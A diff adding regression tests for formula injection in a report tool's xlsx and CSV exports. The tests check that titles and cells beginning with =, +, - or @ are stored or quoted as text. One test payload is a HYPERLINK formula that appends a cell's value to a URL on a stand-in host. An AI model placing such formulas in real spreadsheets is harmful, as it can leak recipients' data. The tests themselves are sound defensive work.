@@ -486,3 +486,24 @@ def test_without_a_start_date_the_period_runs_up_to_the_as_of_date(lang, period)
     annex = build({**SNAPSHOT, "since": None}, lang)
     assert (wording.words(lang)["meta"]["period"], period) in annex.meta
     assert any(period in line for line in annex.method)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_title_that_looks_like_a_formula_is_text_in_the_xlsx(start):
+    from openpyxl import load_workbook
+
+    title = f'{start}HYPERLINK("http://example.invalid/?"&A1,"open")'
+    snapshot = {**SNAPSHOT, "title": title}
+    book = load_workbook(io.BytesIO(render_annex(snapshot, fmt="xlsx", lang="en")[0]))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == title]
+    assert cells, "the title is in the workbook"
+    assert all(c.data_type == "s" for c in cells)  # a string, not a formula
+    formulas = [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert not formulas
+
+
+def test_csv_cells_that_could_start_a_formula_are_quoted_as_text():
+    from shared.exports import csv_row
+
+    assert csv_row(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", 5, -3]) == \
+        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain", 5, -3]
